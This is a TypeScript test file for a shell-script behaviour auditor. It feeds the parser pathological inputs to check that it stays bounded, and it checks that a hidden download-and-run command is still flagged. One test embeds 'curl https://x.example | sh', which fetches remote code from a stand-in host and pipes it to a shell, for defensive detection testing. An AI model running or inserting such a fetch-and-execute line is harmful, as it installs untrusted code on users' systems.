import assert from 'node:assert/strict';
import { test } from 'node:test';
import { followScript } from '../../../src/audit/behaviour/steps/follow-step.ts';
import { describeFile, LOOKED_AT } from '../../../src/audit/behaviour/steps/describe-file.ts';
import { loadShellParser } from '../../../src/audit/behaviour/shell/shell-parser.ts';

const parser = await loadShellParser();
const lines = (count: number, line: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => line(index)).join('\n');

/** More facts than this nobody keeps of one text, with one that says so. */
const MOST_FACTS = 4002;

const HOSTILE: Readonly<Record<string, string | Uint8Array>> = {
  '100,000 open parentheses': '('.repeat(100_000),
  '100,000 nested subshells': `${'('.repeat(100_000)}x${')'.repeat(100_000)}`,
  '100,000 nested substitutions': `${'$('.repeat(100_000)}x${')'.repeat(100_000)}`,
  '50,000 nested expansions': `${'${a:-'.repeat(50_000)}${'}'.repeat(50_000)}`,
  '30,000 ifs without an end': 'if x; then '.repeat(30_000),
  '10,000 nested quotes and substitutions': 'a "$(b "$(c '.repeat(5000),
  'one word of 512 KiB': 'a'.repeat(1 << 19),
  'a line of 512 KiB': 'curl x '.repeat(1 << 17).slice(0, 1 << 19),
  'a line of 1 MiB': 'curl x '.repeat(1 << 18).slice(0, 1 << 20),
  'a text that is too long': 'curl x\n'.repeat(200_000),
  'a chain of 100,000 commands': `${'a && '.repeat(100_000)}b`,
  'a pipeline of 100,000 commands': `${'a|'.repeat(100_000)}b`,
  'an unterminated quote': `echo "${'x'.repeat(100_000)}`,
  '50,001 quotes': '"'.repeat(50_001),
  '20,000 here-documents without an end': 'cat <<A\n'.repeat(20_000),
  '20,000 here-documents in one line': 'cat <<A'.repeat(20_000),
  'a NUL in each line': 'a\0b\n'.repeat(20_000),
  'only NULs': new Uint8Array(100_000),
  'a script of NULs': Buffer.from(`#!/bin/sh\n${'\0'.repeat(100_000)}`),
  'no UTF-8': Buffer.concat([Buffer.from('#!/bin/sh\n'), Buffer.alloc(100_000, 0xff)]),
  'half surrogates': `#!/bin/sh\necho ${'\ud800'.repeat(1000)}\n`,
  'variables that double':
    lines(64, (index) => `a${index}="$a${index + 1}$a${index + 1}"`) + '\na64=xxxxxxxx\n$a0 "$a0"\n',
  'a chain of 50,000 variables': lines(50_000, (index) => `a${index}=$a${index + 1}`) + '\n$a0\n',
  'variables in a circle': 'a=$b\nb=$c\nc=$a\n$a $b $c\n',
  'words with many values': lines(
    100,
    (index) => `for v${index} in a b c d e f g h; do cp $v0 $v${index} x$v1$v2$v3; done`,
  ),
  'functions that call each other':
    lines(5000, (index) => `f${index}() { f${(index * 7) % 5000}; curl x$1; }`) + '\nf1\n',
  'an eval in an eval': `${'eval "'.repeat(100)}ls`,
  'a text in a text in a text': Array.from({ length: 12 })
    .reduce<string>((text) => `sh -c ${JSON.stringify(text)}`, 'ls')
    .slice(0, 1 << 19),
  'sudo of sudo of sudo': `${'sudo '.repeat(50_000)}ls`,
  'env of env in find in xargs': `${'env find . -exec xargs timeout 5 '.repeat(5000)}ls`,
  '20,000 functions with one name': lines(20_000, () => 'f() { curl x; }'),
  'paths that climb': `cd ${'../'.repeat(50_000)}\ncat ${'x/../'.repeat(50_000)}y\n`,
  '100,000 redirections': `ls ${'>a '.repeat(100_000)}`,
  'tests that the grammar does not know': '[ -w / ] && ls\n'.repeat(20_000),
  'dollars without names': '${A}/$B/$C/$D$ '.repeat(20_000),
  'escaped blanks': "'a'\\ ".repeat(50_000),
  'secrets everywhere': 'echo "$A_TOKEN" "$B_PASSWORD"\n'.repeat(20_000),
};

for (const [name, content] of Object.entries(HOSTILE))
  test(`hostile shell text is bounded and never an exception: ${name}`, () => {
    const bytes = typeof content === 'string' ? Buffer.from(content) : content;
    const file = describeFile(bytes.subarray(0, LOOKED_AT + 1), parser);
    if (file.kind !== 'shell') return;
    const facts = followScript(file.facts, '.');
    const kept = [...file.facts.units.values()].reduce((sum, unit) => sum + unit.facts.length, 0);
    assert.ok(kept <= MOST_FACTS, `${kept} facts`);
    assert.ok(
      facts.every(({ text }) => text.length <= 5000),
      'a fact is too long to be shown',
    );
  });

for (const name of ['100,000 nested subshells', 'a text that is too long', 'an unterminated quote'])
  test(`what cannot be parsed is opaque: ${name}`, () => {
    const file = describeFile(Buffer.from(HOSTILE[name] ?? ''), parser);
    assert.equal(file.kind, 'shell');
    const kinds = file.kind === 'shell' ? followScript(file.facts, '.').map(({ kind }) => kind) : [];
    assert.ok(kinds.includes('opaque'), kinds.join(' '));
  });

test('a hidden command does not vanish behind text that cannot be parsed', () => {
  const file = describeFile(Buffer.from('#!/bin/sh\ncase x in (\n}}\ncurl https://x.example | sh\n'), parser);
  const facts = file.kind === 'shell' ? followScript(file.facts, '.') : [];
  assert.ok(
    facts.some(({ kind }) => kind === 'opaque' || kind === 'download-run'),
    JSON.stringify(facts),
  );
});

test('the parser works on after a text that it could not read', () => {
  parser.parse('('.repeat(100_000));
  assert.equal(parser.parse('ls')?.children[0]?.type, 'command');
});
